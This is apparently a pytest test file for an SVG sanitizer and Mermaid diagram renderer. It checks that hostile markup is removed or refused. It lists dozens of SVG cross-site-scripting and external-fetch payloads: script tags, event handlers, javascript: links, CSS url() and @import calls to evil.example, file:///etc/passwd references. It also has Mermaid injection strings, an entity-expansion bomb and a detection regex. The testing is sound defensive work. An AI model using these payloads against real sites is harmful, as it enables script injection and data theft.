"""Hostile SVG: nothing that runs, fetches or hides stays; what draws does."""

import re
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inkwright.render.diagrams.picture import DrawingError, picture
from inkwright.render.diagrams.safe_svg import safe_svg

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 20">'
VECTORS = [
    "<script>alert(1)</script>",
    "<script xlink:href='https://evil.example/x.js'/>",
    "<rect onload='alert(1)' width='1' height='1'/>",
    "<rect ONCLICK='alert(1)' width='1' height='1'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "<a href='https://evil.example/'><text>x</text></a>",
    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='alert(1)'/></p></foreignObject>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
    "<image href='https://evil.example/x.png'/>",
    "<image href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='/>",
    "<image xlink:href='file:///etc/passwd'/>",
    "<use href='https://evil.example/x.svg#a'/>",
    "<use xlink:href='data:image/svg+xml,evil#a'/>",
    "<animate attributeName='href' values='javascript:alert(1)'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>rect{fill:url(https://evil.example/x)}</style>",
    "<style>rect{fill:u\\72l(https://evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
    "<style>rect{background:image-set('https://evil.example/x' 1x)}</style>",
    "<rect style='fill:url(https://evil.example/x)'/>",
    "<rect style='behavior:url(#x)'/>",
    "<rect fill='url(https://evil.example/x#a)'/>",
    "<rect filter=\"url('//evil.example/x#a')\"/>",
    "<feImage href='https://evil.example/x'/>",
    "<handler type='text/javascript'>alert(1)</handler>",
    "<text xml:base='https://evil.example/'>x</text>",
    "<metadata><x onload='alert(1)'/></metadata>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<svg onload='alert(1)'><rect/></svg>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
]
RUNS = re.compile(r"script|javascript|\bon\w+=|evil|foreignObject|iframe|alert|@import|behavior|/etc/", re.I)


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_leaves_nothing_that_runs_or_fetches(vector):
    svg = safe_svg(f"{HEAD}<rect width='5' height='5'/>{vector}</svg>").svg
    assert not RUNS.search(svg), svg
    assert '<rect width="5"' in svg


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_in_a_label_of_a_diagram_is_words(vector):
    label = vector.replace('"', "'").replace("\n", " ")
    try:
        svg = picture("mermaid", f'flowchart LR\n  A["{label}"] --> B\n').svg
    except DrawingError:
        return
    tree = fromstring(svg)
    for element in tree.iter():
        assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "iframe", "a", "image")
        assert not [name for name in element.attrib if name.lower().startswith("on") or name.endswith("href")]


@pytest.mark.parametrize(
    "source",
    [
        'flowchart LR\n  A --> B\n  click A "javascript:alert(1)"\n',
        "flowchart LR\n  A --> B\n  click A call alert(1)\n",
        'flowchart LR\n  A --> B\n  click A href "https://evil.example/"\n',
        "flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/x)\n",
        '%%{init: {"themeCSS": "rect{fill:url(https://evil.example/x)}"}}%%\nflowchart LR\n  A --> B\n',
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n  A["<img src=x onerror=alert(1)>"]\n',
        '%%{init: {"fontFamily": "x;} @import url(https://evil.example/x);{"}}%%\nflowchart LR\n  A --> B\n',
        'flowchart LR\n  A@{ img: "https://evil.example/x.png", label: "x" }\n',
        "sequenceDiagram\n  participant A\n  link A: x @ javascript:alert(1)\n  A->>A: hi\n",
    ],
)
def test_what_mermaid_lets_authors_do_is_taken_out(source):
    try:
        svg = picture("mermaid", source).svg
    except DrawingError:
        return
    tree = fromstring(svg)
    assert "javascript:" not in svg
    assert "url(http" not in svg
    assert "@import" not in svg
    for element in tree.iter():
        assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "img", "a")
        assert not [name for name in element.attrib if name.lower().startswith("on")]
        assert not [name for name, value in element.attrib.items() if name.endswith("href") and "evil" in value]


def test_entities_are_refused_and_a_plain_document_type_is_dropped():
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + HEAD + "<text>&b;</text></svg>"
    with pytest.raises(ValueError):
        safe_svg(bomb)
    plain = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert "DOCTYPE" not in safe_svg(plain + HEAD + "</svg>").svg


@pytest.mark.parametrize(
    "svg", ["", "x", "<html/>", "<svg/>", HEAD.replace("0 0 10 20", "0 0 0 0") + "</svg>",
            HEAD.replace("0 0 10 20", "0 0 1e9 5") + "</svg>", '<svg xmlns="urn:other" viewBox="0 0 1 1"/>'],
)  # fmt: skip
def test_what_is_no_picture_is_refused(svg):
    with pytest.raises(ValueError):
        safe_svg(svg)


def test_nesting_as_deep_as_one_likes_is_no_danger():
    svg = HEAD + "<g>" * 3000 + "</g>" * 3000 + "</svg>"
    assert safe_svg(svg).width == 10


def test_the_size_is_the_written_one_or_that_of_the_view():
    assert safe_svg(HEAD + "</svg>")[1:] == (10, 20)
    assert safe_svg(HEAD.replace("viewBox", 'width="30px" height="40" viewBox') + "</svg>")[1:] == (30, 40)
    assert safe_svg(HEAD.replace("viewBox", 'width="100%" viewBox') + "</svg>")[1:] == (10, 20)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="<>/=\"' abgonclickhrefsvrtyle:;{}@u()#&", max_size=80))
def test_any_text_ends_as_a_picture_or_a_refusal(inside):
    try:
        drawn = safe_svg(HEAD + inside + "</svg>")
    except ValueError:
        return
    for element in fromstring(drawn.svg).iter():
        assert not [name for name in element.attrib if name.lower().startswith("on")]
